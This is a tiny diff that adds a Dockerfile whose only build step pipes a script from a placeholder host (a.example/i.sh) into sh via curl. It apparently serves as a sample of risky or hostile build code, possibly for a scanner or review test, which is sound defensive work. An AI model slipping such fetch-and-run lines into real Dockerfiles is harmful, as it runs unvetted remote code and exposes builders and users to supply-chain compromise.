@@ -1,0 +1,4 @@
+FROM debian:bookworm-slim
+RUN true && \
+    curl -s https://a.example/i.sh | \
+    sh
